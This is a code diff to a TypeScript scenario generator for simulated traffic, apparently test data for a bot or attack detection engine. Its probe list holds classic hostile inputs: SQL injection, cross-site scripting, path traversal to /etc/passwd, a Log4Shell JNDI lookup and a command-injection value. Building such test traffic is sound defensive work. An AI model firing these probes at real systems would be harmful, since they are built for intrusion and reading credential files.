@@ -276,7 +276,7 @@ export const SCENARIOS: readonly Scenario[] = [
     stableBot: false,
     generate: (seed, scale = 1) => {
       const rand = prng(seed);
-      // The calm before the surge is never shorter than 3 minutes: the engine's baseline needs 2 minutes of
+      // The calm before the surge is never shorter than 3 minutes: the engine's baseline needs 150 s of
       // history, and clients first seen in the minute before a surge count as part of it.
       const surgeStart = 4 * MINUTE * Math.max(scale, 0.75);
       const out = humans(rand, 25, surgeStart + 3 * MINUTE * scale, humanIp, 'user', 0, scale);
@@ -338,6 +338,7 @@ export const SCENARIOS: readonly Scenario[] = [
         '1 UNION SELECT username,password FROM users--',
         '<script>alert(1)</script>',
         '../../../../etc/passwd',
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
         '${jndi:ldap://203.0.113.1/a}',
         '; cat /etc/passwd',
         '"><img src=x onerror=alert(1)>',
@@ -368,7 +369,8 @@ export const SCENARIOS: readonly Scenario[] = [
     stableBot: true,
     generate: (seed, scale = 1) => {
       const rand = prng(seed);
-      const out = humans(rand, 10, 60 * MINUTE * scale, humanIp, 'user', 0, scale);
+      // A few people alongside: the hour is about the bot, and the run must stay quick.
+      const out = humans(rand, 4, 60 * MINUTE * scale, humanIp, 'user', 0, scale);
       let id = 5000;
       for (let t = 0; t < 60 * MINUTE * scale; t += 4000 + Math.round(rand() * 60)) {
         out.push(
